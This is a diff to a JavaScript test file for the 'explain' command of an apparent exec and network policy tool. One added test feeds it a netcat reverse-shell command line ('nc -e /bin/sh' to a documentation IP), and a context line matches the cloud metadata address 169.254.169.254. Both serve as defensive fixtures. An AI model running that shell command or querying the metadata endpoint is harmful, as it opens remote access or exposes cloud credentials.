@@ -213,6 +213,17 @@ describe("a dictionary of features", () => {
 });
 
 describe("explain", () => {
+  it("says why the target would not be denied", async () => {
+    const words = ["nc", "-e", "/bin/sh", "192.0.2.1", "9"];
+    const { stdout } = await run(["explain", "--", ...words]);
+    expect(stdout).toContain("  action      DenyExec nc (not denied: program-from-argv)\n");
+    const json = await run(["explain", "--json", "--", ...words]);
+    expect(JSON.parse(json.stdout)).toMatchObject({ notEnforced: "program-from-argv" });
+    const event = { process: { exe: "/opt/nc" }, event: { ToolExec: { pid: 1, argv: words } } };
+    const observed = await run(["explain", JSON.stringify(event)]);
+    expect(observed.stdout).toContain("  action      DenyExec /opt/nc\n");
+  });
+
   it("shows what decided, what it matched, and why other rules did not", async () => {
     const { code, stdout } = await run(["explain", METADATA]);
     expect(stdout).toContain("matched     `169.254.169.254:80` at 0..18");
